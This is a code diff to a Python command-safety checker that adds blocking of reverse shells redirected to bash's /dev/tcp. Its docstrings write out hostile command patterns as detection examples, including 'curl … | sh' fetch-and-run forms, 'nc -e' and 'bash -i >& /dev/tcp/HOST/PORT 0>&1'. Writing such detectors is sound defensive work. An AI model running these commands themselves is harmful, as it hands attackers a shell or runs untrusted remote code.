@@ -5,7 +5,8 @@ blocklist and the policy file's blocks; unwraps wrappers (``sudo``, ``env``, ``s
 ``eval``, ``xargs``, ``find -exec`` …) and judges what they run, recursively; rates plain
 programs (``programs.py``); and checks what flows into shells and interpreters, so that
 ``curl … | sh``, ``bash <(curl …)`` and ``sh -c "$(curl …)"`` are blocked while
-``echo 'ls' | sh`` is judged as ``ls``. Text that cannot be parsed is high risk, never safe.
+``echo 'ls' | sh`` is judged as ``ls``; a shell redirected to bash's ``/dev/tcp`` (a
+reverse shell, like ``nc -e``) is blocked. Text that cannot be parsed is high risk, never safe.
 """
 
 from __future__ import annotations
@@ -18,7 +19,7 @@ from stockade.policy import blocklist, programs
 from stockade.policy.config import Policy
 from stockade.policy.network import DOWNLOADERS
 from stockade.policy.options import scan
-from stockade.policy.paths import write_findings
+from stockade.policy.paths import is_network_device, write_findings
 from stockade.policy.risk import Finding, Risk
 from stockade.policy.shell import Argv, Invocation, ShellSyntaxError, parse_script
 from stockade.policy.wrappers import SHELLS, Unwrapped, program_name, shell_script, unwrap
@@ -73,8 +74,46 @@ def judge_invocation(invocation: Invocation, policy: Policy, depth: int) -> list
                 expanded=redirect.expanded,
             )
     if invocation.argv:
+        found += _reverse_shell(invocation, depth)
         found += _program(invocation, policy, depth)
     return found
+
+
+def _reverse_shell(invocation: Invocation, depth: int) -> list[Finding]:
+    """``bash -i >& /dev/tcp/HOST/PORT 0>&1``: a shell that reads its commands from a network
+    connection is a reverse shell, like ``nc -e``."""
+    sockets = [r.target for r in invocation.redirects if r.target and is_network_device(r.target)]
+    if not sockets:
+        return []
+    shells = _command_shells(invocation.argv, depth)
+    if not shells:
+        return []
+    name = sorted(shells)[0]
+    return [Finding.block(f"{name} connected to {sockets[0]} hands a shell to the network")]
+
+
+def _command_shells(argv: Argv, depth: int) -> set[str]:
+    """The shells ``argv`` starts, through wrappers, that read commands from their input
+    rather than from a ``-c`` script or a script file (``bash -i``, ``sudo sh``)."""
+    if not argv or depth > MAX_DEPTH:
+        return set()
+    name = program_name(argv[0])
+    if name in SHELLS and _reads_code_from_stdin(argv, name, is_interpreter=False):
+        return {name}
+    unwrapped = unwrap(argv, (False,) * len(argv))
+    if unwrapped is None:
+        return set()
+    shells: set[str] = set()
+    for start, end in unwrapped.spans:
+        shells |= _command_shells(argv[start:end], depth + 1)
+    for code in unwrapped.code:
+        try:
+            inner = parse_script(code.text).invocations
+        except ShellSyntaxError:
+            continue
+        for found in inner:
+            shells |= _command_shells(found.argv, depth + 1)
+    return shells
 
 
 def _program(invocation: Invocation, policy: Policy, depth: int) -> list[Finding]:
